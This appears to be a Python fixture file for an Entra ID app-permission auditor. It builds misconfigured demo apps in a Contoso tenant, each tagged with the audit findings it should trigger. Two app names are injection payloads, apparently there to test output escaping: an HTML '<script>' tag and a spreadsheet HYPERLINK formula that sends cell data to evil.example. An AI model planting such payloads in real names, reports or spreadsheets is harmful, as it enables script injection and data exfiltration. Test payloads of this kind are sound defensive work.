"""The demo tenant's unhealthy apps: one story each, told by its configuration alone.

The name, what is wrong and what should be found stand in the decorator; the function builds the app. A few stories end
in two findings, because real ones do.
"""

from __future__ import annotations

from auditor.emulator.build import AAD_GRAPH, EXCHANGE, TenantBuilder
from auditor.emulator.contoso.healthy import SIGN_IN
from auditor.emulator.contoso.story import story


@story("Payroll export", "A nightly job whose only client secret ends in 12 days.", "credential-expired")
def _(tenant: TenantBuilder, name: str) -> None:
    app = tenant.consent(tenant.app(name, requests=[("User.Read.All", "application")], owners=["Grace Murray"]))
    tenant.registration(app)["passwordCredentials"][0]["endDateTime"] = "@now+12d"


@story("Badge archive", "A daemon whose only certificate ended 40 days ago: it cannot sign in.", "credential-expired")
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(tenant.app(name, certificate="@now-40d", requests=[("Group.Read.All", "application")]))


@story(
    "HR self-service password reset",
    "An app without users that was given the delegated permission behind resetPassword, which no application permission opens.",
    "delegated-only-api",
    "risky-grant",
)
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(tenant.app(name, requests=[("UserAuthenticationMethod.ReadWrite.All", "delegated")]))


@story(
    "Password rotation",
    "A daemon that sets passwords app-only, with the permission and without a directory role.",
    "directory-role-missing",
    "risky-grant",
)
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(
        tenant.app(name, certificate="@now+300d", requests=[("User-PasswordProfile.ReadWrite.All", "application")])
    )


@story(
    "Exchange automation",
    "Runs Exchange Online PowerShell unattended: Exchange.ManageAsApp lets it in, and no directory role lets it do anything.",
    "directory-role-missing",
    "risky-grant",
)
def _(tenant: TenantBuilder, name: str) -> None:
    requests = [("Exchange.ManageAsApp", "application", EXCHANGE)]
    tenant.consent(tenant.app(name, certificate="@now+300d", requests=requests))


@story(
    "Legacy reporting",
    "Still granted on Azure AD Graph, which has answered no call since August 2025.",
    "wrong-resource",
)
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(tenant.app(name, requests=[("Directory.Read.All", "application", AAD_GRAPH)]))


@story(
    "Mailbox cleanup",
    "Holds Mail.ReadWrite of Exchange Online; the API it calls is Microsoft Graph.",
    "wrong-resource",
    "workload-policy",
    "risky-grant",
)
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(tenant.app(name, certificate="@now+250d", requests=[("Mail.ReadWrite", "application", EXCHANGE)]))


@story(
    "func-invoice-intake",
    "A managed identity with a delegated grant and nothing else: no user ever signs in to it.",
    "permission-type-mismatch",
)
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.grant(tenant.managed_identity(name), "User.Read Group.Read.All")


@story(
    "Desk phone sync",
    "A public client with an application permission, which it has no credential to use.",
    "permission-type-mismatch",
)
def _(tenant: TenantBuilder, name: str) -> None:
    phones = tenant.app(name, public=["http://localhost"], requests=[("User.Read.All", "application")])
    tenant.consent(phones)


@story(
    "Call quality board",
    "A single-page app that wants call records, which only application permissions open.",
    "application-only-api",
)
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(
        tenant.app(
            name, spa=["https://calls.contoso.com"], requests=[*SIGN_IN, ("CallRecords.Read.All", "application")]
        )
    )


@story(
    "Inventory sync",
    "Reads devices, and since its last release groups too (a declared call), which no permission of it opens.",
    "permission-missing",
)
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(tenant.app(name, certificate="@now+420d", requests=[("Device.Read.All", "application")]))


@story("Supplier portal", "Requests a permission that only an admin can grant, and no admin has.", "consent-missing")
def _(tenant: TenantBuilder, name: str) -> None:
    app = tenant.app(
        name, web=["https://suppliers.contoso.com/signin"], requests=[*SIGN_IN, ("GroupMember.Read.All", "delegated")]
    )
    tenant.grant(app, "openid profile User.Read")


@story("Absence forwarder", "A new daemon that waits for admin consent.", "consent-missing")
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.app(name, certificate="@now+360d", requests=[("Presence.Read.All", "application")])


@story("Timesheets ⏱️", "Two people consented for themselves; for everyone else it fails.", "consent-partial")
def _(tenant: TenantBuilder, name: str) -> None:
    app = tenant.app(
        name, web=["https://time.contoso.com/signin"], requests=[*SIGN_IN, ("Calendars.Read", "delegated")]
    )
    tenant.grant(app, "openid profile User.Read")
    for user in ("Ada Byron", "Grace Murray"):
        tenant.grant(app, "Calendars.Read", user=user)


@story(
    "Customer feedback",
    "Requests a scope that users could once consent to; the tenant's consent policy keeps it for admins.",
    "consent-blocked",
)
def _(tenant: TenantBuilder, name: str) -> None:
    app = tenant.app(name, web=["https://feedback.contoso.com/signin"], requests=[*SIGN_IN, ("Mail.Read", "delegated")])
    tenant.grant(app, "openid profile User.Read")


@story(
    '<script>alert("Data lake loader")</script>',
    "Requests an id that Microsoft Graph does not define, and a scope's id as if it were an application permission.",
    "permission-unknown",
)
def _(tenant: TenantBuilder, name: str) -> None:
    scope_as_role = tenant.permission_id("Reports.Read.All", "delegated")
    app = tenant.app(name, certificate="@now+300d",
                     requests=[(tenant.guid("no such permission"), "application"), (scope_as_role, "application"),
                               ("Reports.Read.All", "application")])  # fmt: skip
    tenant.assign(app, "Reports.Read.All")


@story(
    '=HYPERLINK("http://evil.example/?"&A1,"Marketing automation")',
    "Holds Directory.Read.All, which its registration stopped requesting.",
    "permission-excess",
)
def _(tenant: TenantBuilder, name: str) -> None:
    app = tenant.consent(tenant.app(name, certificate="@now+300d", requests=[("User.Read.All", "application")]))
    tenant.assign(app, "Directory.Read.All")


@story("Old intranet", "Its service principal is disabled.", "sign-in-blocked")
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(tenant.app(name, web=["https://old.contoso.com/signin"], requests=SIGN_IN, enabled=False))


@story("Laboratory booking", "Users must be assigned to it, and nobody is.", "sign-in-blocked")
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(tenant.app(name, web=["https://lab.contoso.com/signin"], requests=SIGN_IN, assignment_required=True))


@story("Energy meters", "Registered, but its service principal was never made.", "sign-in-blocked", "consent-missing")
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.app(name, certificate="@now+300d", requests=[("Place.Read.All", "application")], service_principal=False)


@story(
    "Photo contest",
    "Open to personal Microsoft accounts, and requests the Teams permission ChannelMessage.Send, which they have no form of.",
    "personal-account",
)
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(
        tenant.app(name, web=["https://photos.contoso.com/signin"], audience="AzureADandPersonalMicrosoftAccount",
                   requests=[*SIGN_IN, ("ChannelMessage.Send", "delegated")])
    )  # fmt: skip


@story("Device inventory", "Reads managed devices; the tenant's Intune subscription is suspended.", "license-missing")
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(
        tenant.app(name, certificate="@now+300d", requests=[("DeviceManagementManagedDevices.Read.All", "application")])
    )


@story("Risk feed", "Reads risky users; the tenant has no Entra ID P2.", "license-missing")
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(tenant.app(name, certificate="@now+300d", requests=[("IdentityRiskyUser.Read.All", "application")]))


@story(
    "Meeting room display",
    "Signs in with the device code flow, which a Conditional Access policy blocks.",
    "conditional-access",
)
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(
        tenant.app(name, fallback=True, requests=[("User.Read", "delegated"), ("Place.Read.All", "delegated")])
    )


@story(
    "Warehouse robot",
    "A Conditional Access policy for workload identities blocks it outside the plants' addresses.",
    "conditional-access",
)
def _(tenant: TenantBuilder, name: str) -> None:
    robot = tenant.consent(tenant.app(name, certificate="@now+300d", requests=[("User.Read.All", "application")]))
    plants = tenant.named_location("Plants", "203.0.113.0/24", "198.51.100.0/24")
    tenant.workload_policy(
        "Warehouse robot only from the plants",
        robot,
        locations={"includeLocations": ["All"], "excludeLocations": [plants]},
    )


@story(
    "Onboarding desk",
    "Creates users for whoever signs in; the people who use it need a directory role beside the app's permission.",
    "user-privilege",
)
def _(tenant: TenantBuilder, name: str) -> None:
    requests = [*SIGN_IN, ("User.ReadWrite.All", "delegated")]
    tenant.consent(tenant.app(name, web=["https://onboarding.contoso.com/signin"], requests=requests))


@story("Site archiver", "Sites.Selected opens nothing until each site names the app.", "workload-policy")
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(tenant.app(name, certificate="@now+300d", requests=[("Sites.Selected", "application")]))


@story("Integration hub", "May assign directory roles to itself: a way to Global Administrator.", "risky-grant")
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.consent(
        tenant.app(name, certificate="@now+90d", requests=[("RoleManagement.ReadWrite.Directory", "application")])
    )


@story(
    "Contoso vendor connector",
    "An app of an unknown publisher from another tenant that reads every mailbox.",
    "risky-grant",
    "workload-policy",
)
def _(tenant: TenantBuilder, name: str) -> None:
    tenant.assign(tenant.external(name, replies=[]), "Mail.ReadWrite")
